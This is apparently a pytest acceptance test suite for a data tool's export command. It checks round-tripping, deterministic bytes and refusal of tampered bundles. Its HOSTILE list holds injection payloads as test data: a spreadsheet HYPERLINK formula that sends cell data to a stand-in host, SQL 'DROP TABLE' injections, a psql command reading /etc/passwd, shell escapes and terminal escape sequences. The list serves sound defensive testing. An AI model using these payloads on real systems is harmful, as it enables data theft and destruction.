"""`demogen export`: every value comes back from every format, whatever a text holds; the bytes are always the same."""

# ruff: noqa: RUF001 - the full-width signs are meant

from __future__ import annotations

import csv
import hashlib
import json
import re
import subprocess
from datetime import timedelta

import duckdb
import jsonschema
import psycopg
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from demogen.bundle.pack import pack
from demogen.bundle.read import load_manifest
from demogen.bundle.tables import TABLES
from demogen.errors import BundleError, EnvironmentProblem, Refused
from demogen.schemas import load_schema
from demogen.show import query as show
from demogen.show.export import source
from demogen.show.export.formats import FORMATS
from demogen.show.export.run import export
from tests.acceptance.conftest import listing
from tests.acceptance.readers import (
    LAYOUTS,
    check_values,
    from_csv,
    from_duckdb_file,
    from_jsonl,
    from_parquet,
    from_xlsx,
    into_duckdb,
    into_postgres,
    into_sqlite,
    psql,
)
from tests.loader.forge import forge
from tests.postgres import new_database
from tests.tampered_bundles import sign_table

HOSTILE = [
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "'); DROP TABLE contacts; --",
    "\\'; DROP TABLE contacts; \\",
    "\\",
    "$$ \\copy x from '/etc/passwd' :tenants :'name' ${x} %s ? $1",
    'a,b;c\t"d"',
    "line\none\r\ntwo\r",
    "\n\\! ls\n.shell ls\n-- no comment /*",
    "\u202eevil\u202c \u200f \ufeff \u2028 \u2029 \x85",
    "\x1b[2J\x1b]0;x\x07 \x9b31m \x7f",
    "<script>alert('x')</script> &amp; ]]>",
    "😀 👩‍👩‍👧 é e\u0301 日本語 العربية",
    "null",
    "NULL",
    "",
    " both ",
    "-1+1",
    "＝1",
    "@SUM(A1)",
    "\ttab",
    "1e5",
    "007",
    "true",
    "{}",
    "<r><t>rich</t></r>",
    "<r>&\x01</t></r>",
    "_x0041_ _x000D_",
    "\ufffe\uffff",
    "+4930123456",
    "=" * 300,
]
NUL = "nul\0nul"
# Columns that say what the others mean.
KEPT = {"timezone", "role", "type", "status", "direction", "outcome", "channel", "lifecycle_stage"}
FORMULA = re.compile(r"""[\t\r\n\0]|[\s",;]*[=+\-@＝＋－＠]""")
PLAIN = re.compile(r"\+[0-9]{7,15}|-?[0-9]+(\.[0-9]+)?")


def texts(values):
    """Return texts for every text column: a list that begins elsewhere in each, with nulls where there may be some."""
    columns = [(spec, c) for spec in TABLES for c in spec.columns if c.type == "string" and c.name not in KEPT]
    return {
        (spec.name, c.name): values[i % len(values) :] + [None] * c.nullable + values[: i % len(values)]
        for i, (spec, c) in enumerate(columns)
    }


@pytest.fixture(scope="session")
def hostile(sound, tmp_path_factory):
    """Forge a bundle whose texts attack whoever reads them."""
    return forge(sound, tmp_path_factory.mktemp("hostile") / "bundle", texts(HOSTILE))


@pytest.fixture(scope="session")
def nul(sound, tmp_path_factory):
    """Forge a bundle with a NUL in its texts."""
    return forge(sound, tmp_path_factory.mktemp("nul") / "bundle", texts([*HOSTILE, NUL]))


READERS = {
    "csv": ("csv", from_csv),
    "jsonl": ("jsonl", from_jsonl),
    "parquet": ("parquet", from_parquet),
    "xlsx": ("xlsx", from_xlsx),
    "duckdb": ("duckdb", from_duckdb_file),
    "sql-duckdb": ("sql", into_duckdb),
    "sql-sqlite": ("sql", into_sqlite),
}


NUL_READERS = [READERS[name] for name in ("csv", "jsonl", "parquet", "xlsx", "duckdb")]


@pytest.mark.parametrize(("form", "read"), READERS.values(), ids=READERS)
def test_every_value_comes_back(hostile, tmp_path, form, read):
    export(hostile, form, tmp_path / "out")
    check_values(read(tmp_path / "out"), hostile, near=timedelta(microseconds=form == "xlsx"))


@pytest.mark.parametrize("kind", ["sound", "hostile"])
def test_every_value_comes_back_from_postgres(request, tmp_path, server, kind):
    folder = request.getfixturevalue(kind)
    export(folder, "sql", tmp_path / "out.sql")
    check_values(into_postgres(tmp_path / "out.sql", server), folder, order=False)


@pytest.mark.parametrize(("form", "read"), NUL_READERS)
def test_a_nul_comes_back_from_formats_that_can_hold_it(nul, tmp_path, form, read):
    export(nul, form, tmp_path / "out")
    check_values(read(tmp_path / "out"), nul, near=timedelta(microseconds=form == "xlsx"))


def test_sql_refuses_a_nul(nul, tmp_path):
    with pytest.raises(Refused) as caught:
        export(nul, "sql", tmp_path / "out.sql")
    problems = [str(problem) for problem in caught.value.problems]
    assert "contacts.first_name: holds a NUL, which SQL text cannot hold. Choose another format." in problems
    assert listing(tmp_path) == []


def test_csv_holds_no_formula(hostile, tmp_path):
    """Read by Python's own reader, as other tools would."""
    for form in ("csv", "hubspot", "salesforce"):
        written = export(hostile, form, tmp_path / form)["files"]
        for entry in written:
            with open(tmp_path / form / entry["path"], newline="", encoding="utf-8") as file:
                head, *rows = csv.reader(file, strict=True)
            assert len(rows) == entry["rows"]
            assert [
                cell for row in [head, *rows] for cell in row if FORMULA.match(cell) and not PLAIN.fullmatch(cell)
            ] == []


def test_answers_of_sql_follow_the_same_rule(sound):
    answer = show.query(
        sound, """select '=1+1' as "@SUM(A1)", -5 as n, -12.50::decimal(9,2) as m, '+16025550173' as p"""
    )
    assert show.answer_csv(answer) == "'@SUM(A1),n,m,p\r\n'=1+1,-5,-12.50,+16025550173\r\n"


def test_json_lines_shown_in_a_terminal_are_not_obeyed(hostile, tmp_path):
    export(hostile, "jsonl", tmp_path / "out")
    content = b"".join(path.read_bytes() for path in sorted((tmp_path / "out").iterdir())).decode("utf-8")
    unseen = {c for c in content if ord(c) < 32 or 126 < ord(c) < 160 or c in "\u200f\u2028\u2029\u202e\ufeff"}
    assert unseen == {"\n"}


def test_a_duckdb_database_has_keys_and_comments(sound, tmp_path):
    export(sound, "duckdb", tmp_path / "out.duckdb")
    with duckdb.connect(str(tmp_path / "out.duckdb"), read_only=True) as connection:
        keys = connection.execute(
            "SELECT table_name, constraint_type, constraint_column_names, referenced_table, referenced_column_names"
            " FROM duckdb_constraints() WHERE constraint_type LIKE '%KEY'"
        ).fetchall()
        comments = connection.execute(
            "SELECT table_name, column_name, comment, data_type, is_nullable FROM duckdb_columns() WHERE NOT internal"
        ).fetchall()
        tables = connection.execute("SELECT table_name, comment FROM duckdb_tables()").fetchall()
    assert sorted(tables) == sorted((spec.name, spec.meaning) for spec in TABLES)
    assert {(t, tuple(columns)) for t, kind, columns, *_ in keys if kind == "PRIMARY KEY"} == {
        (s.name, s.key) for s in TABLES
    }
    assert {(t, *columns, to, *theirs) for t, kind, columns, to, theirs in keys if kind == "FOREIGN KEY"} == {
        (spec.name, column, table, "id") for spec in TABLES for column, table in spec.references.items()
    }
    types = {"uuid": "UUID", "string": "VARCHAR", "int": "INTEGER", "bool": "BOOLEAN", "date": "DATE"}
    types |= {"timestamp": "TIMESTAMP WITH TIME ZONE", "money": "DECIMAL(18,2)"}
    assert sorted(comments) == sorted(
        (spec.name, c.name, c.meaning, types[c.type], c.nullable) for spec in TABLES for c in spec.columns
    )


def test_sql_has_keys_in_postgres(sound, tmp_path, server):
    export(sound, "sql", tmp_path / "out.sql")
    with new_database(server) as conninfo:
        subprocess.run([psql(), conninfo, "-X", "-q", "-f", str(tmp_path / "out.sql")], check=True)
        with psycopg.connect(conninfo) as connection:
            found = connection.execute(
                "SELECT conrelid::regclass::text, pg_get_constraintdef(oid) FROM pg_constraint"
                " WHERE contype IN ('p', 'f') AND connamespace = 'public'::regnamespace"
            ).fetchall()
    keys = {(spec.name, f"PRIMARY KEY ({', '.join(spec.key)})") for spec in TABLES}
    keys |= {
        (spec.name, f"FOREIGN KEY ({c}) REFERENCES {to}(id)") for spec in TABLES for c, to in spec.references.items()
    }
    assert set(found) == keys


ELSEWHERE = {
    "TZ": "Pacific/Kiritimati",
    "LC_ALL": "tr_TR.UTF-8",
    "LANG": "ar_AE",
    "PYTHONHASHSEED": "2",
    "OMP_NUM_THREADS": "1",
}


@pytest.mark.parametrize("form", [form for form in FORMATS if form != "duckdb"])
def test_the_same_bundle_gives_the_same_bytes(sound, run, tmp_path, form):
    here, elsewhere = tmp_path / "here" / "out", tmp_path / "elsewhere" / "out"
    export(sound, form, here)
    assert run("export", sound, "--format", form, "-o", elsewhere, env=ELSEWHERE).returncode == 0
    one, other = (
        [(path.name, path.read_bytes()) for path in (sorted(out.iterdir()) if out.is_dir() else [out])]
        for out in (here, elsewhere)
    )
    assert one == other


@pytest.mark.parametrize("form", FORMATS)
def test_json_tells_the_files(sound, run, tmp_path, form):
    out = tmp_path / "out"
    done = run("export", sound, "--format", form, "-o", out, "--json")
    found = json.loads(done.stdout)
    assert (done.returncode, done.stderr) == (0, b"")
    jsonschema.Draft202012Validator(load_schema("export")).validate(found)
    assert (found["path"], found["format"]) == (str(out), form)
    files = {entry["path"]: out / entry["path"] if out.is_dir() else out for entry in found["files"]}
    described = {"datapackage.json"} if form in {"csv", *LAYOUTS} else set()
    beside = {"export.json"} | described
    assert sorted(files) == ([n for n in listing(out) if n not in beside] if out.is_dir() else ["out"])
    assert ({found["descriptor"]["path"]} if "descriptor" in found else set()) == described
    files |= {name: out / name for name in described}
    for entry in [*found["files"], *([found["descriptor"]] if described else [])]:
        content = files[entry["path"]].read_bytes()
        assert (entry["sizeBytes"], entry["sha256"]) == (len(content), hashlib.sha256(content).hexdigest())
    if form not in LAYOUTS:
        assert sum(entry["rows"] for entry in found["files"]) == sum(t["rows"] for t in load_manifest(sound)["tables"])
    if out.is_dir():
        listed = json.loads((out / "export.json").read_bytes())
        assert (listed["format"], listed["files"]) == (form, found["files"])
        assert listed.get("descriptor") == found.get("descriptor")
        assert listed["contentDigest"] == load_manifest(sound)["contentDigest"]


def test_a_line_tells_what_was_written(sound, run, tmp_path):
    done = run("export", sound, "--format", "csv", "-o", "o\x1but", cwd=tmp_path)
    rows = sum(table["rows"] for table in load_manifest(sound)["tables"])
    assert (done.stdout.decode(), done.stderr) == (f"o\\x1but: csv, {rows:,} rows in 15 files\n", b"")


def test_a_tar_is_exported_like_its_folder(sound, tmp_path):
    pack(sound, tmp_path / "bundle.tar")
    for given, name in ((sound, "a"), (tmp_path / "bundle.tar", "b")):
        export(given, "csv", tmp_path / name)
    assert listing(tmp_path / "a") == listing(tmp_path / "b")
    assert all((tmp_path / "a" / n).read_bytes() == (tmp_path / "b" / n).read_bytes() for n in listing(tmp_path / "a"))


@pytest.mark.parametrize("form", FORMATS)
def test_a_tampered_bundle_is_refused(bundle, run, tmp_path, monkeypatch, form):
    path = bundle / "data/leads.parquet"
    path.write_bytes(path.read_bytes()[:-1] + b"x")
    done = run("export", bundle, "--format", form, "-o", tmp_path / "out")
    assert (done.returncode, done.stdout) == (1, b"")
    assert b"data/leads.parquet: has another SHA-256" in done.stderr
    assert listing(tmp_path) == ["bundle"]


def test_rows_that_break_a_key_are_told(sound, tmp_path):
    leads = pq.read_table(sound / "data/leads.parquet").column("id").to_pylist()
    broken = forge(sound, tmp_path / "bundle", {})
    table = pq.read_table(broken / "data/leads.parquet")
    assert leads[0] != leads[1]
    sign_table(broken, "leads", table.take([0, 0, *range(2, len(leads))]))
    with pytest.raises(BundleError, match="breaks a key"):
        export(broken, "duckdb", tmp_path / "out")
    assert listing(tmp_path) == ["bundle"]


def retable(folder, name, table):
    """Put a table in the place of another, and make the manifest's hashes right."""
    from tests.acceptance.test_verify import retell

    path = f"data/{name}.parquet"
    pq.write_table(table, folder / path)
    retell(folder, lambda manifest: None, rehash=[path])


def test_other_columns_with_right_hashes_are_refused(bundle, tmp_path):
    retable(bundle, "tags", pq.read_table(bundle / "data/tags.parquet").drop_columns(["color"]))
    with pytest.raises(BundleError, match=r"data/tags\.parquet: has another schema"):
        export(bundle, "csv", tmp_path / "out")


def test_text_that_is_no_text_is_refused(bundle, tmp_path):
    table = pq.read_table(bundle / "data/tags.parquet")
    offsets = pa.array([2 * i for i in range(table.num_rows + 1)], pa.int32()).buffers()[1]
    bad = pa.Array.from_buffers(
        pa.string(), table.num_rows, [None, offsets, pa.py_buffer(b"\xff\xfe" * table.num_rows)]
    )
    at = table.schema.get_field_index("name")
    sign_table(bundle, "tags", table.set_column(at, table.schema.field(at), bad))
    for form in ("csv", "jsonl", "parquet", "xlsx", "duckdb", "sql"):
        with pytest.raises(BundleError, match=r"cannot be read: .*UTF8"):
            export(bundle, form, tmp_path / "out")
    assert listing(tmp_path) == ["bundle"]


@pytest.mark.parametrize("form", FORMATS)
def test_too_little_memory_is_told(sound, tmp_path, monkeypatch, form):
    monkeypatch.setattr(source, "MEMORY", 300_000)
    monkeypatch.setattr(source, "MEMORY_PER_BYTE", 0)
    with pytest.raises(EnvironmentProblem):
        export(sound, form, tmp_path / "a/out")
    assert listing(tmp_path) == []


def small_files():
    import resource

    resource.setrlimit(resource.RLIMIT_FSIZE, (3_000, 3_000))


@pytest.mark.parametrize("form", ["csv", "parquet", "xlsx", "duckdb"])
def test_a_file_that_grows_too_large_leaves_nothing(sound, run, tmp_path, form):
    done = run("export", sound, "--format", form, "-o", tmp_path / "a/out", preexec_fn=small_files)
    assert (done.returncode, done.stdout, len(done.stderr.splitlines())) == (3, b"", 2)
    assert b"a file would be larger than is allowed" in done.stderr
    assert listing(tmp_path) == []


def test_an_unknown_time_zone_is_told(sound, tmp_path):
    broken = forge(sound, tmp_path / "bundle", {("tenants", "timezone"): ["Mars/Base\x1b"]})
    for form in ("hubspot", "salesforce", "xlsx"):
        with pytest.raises(
            BundleError, match=r"tenants.timezone: (is no known zone|unknown time zone); found 'Mars/Base\\x1b'"
        ):
            export(broken, form, tmp_path / "out")


def test_csv_and_sql_answers_write_the_same_cells(hostile, tmp_path):
    export(hostile, "csv", tmp_path / "out")
    for name in ("contacts", "deals"):
        answer = show.answer_csv(show.query(hostile, f"from {name}"))
        assert (tmp_path / f"out/{name}.csv").read_bytes().decode("utf-8") == answer


def test_json_lines_and_sql_answers_give_the_same_values(sound, tmp_path):
    export(sound, "jsonl", tmp_path / "out")
    rows = [json.loads(line) for line in (tmp_path / "out/deals.jsonl").read_text(encoding="utf-8").splitlines()]
    assert rows == json.loads(show.answer_json(show.query(sound, "from deals")))


def test_an_older_duckdb_opens_the_database(sound, run, tmp_path):
    """The shell of the extra is of an older version than the library that writes."""
    from demogen.show.shell import find_shell

    assert run("export", sound, "--format", "duckdb", "-o", tmp_path / "out.duckdb").returncode == 0
    words = [find_shell(), "-readonly", "-list", tmp_path / "out.duckdb", "SELECT count(*) FROM leads"]
    assert subprocess.run(words, capture_output=True, check=True).stdout.split() == [b"count_star()", b"100"]
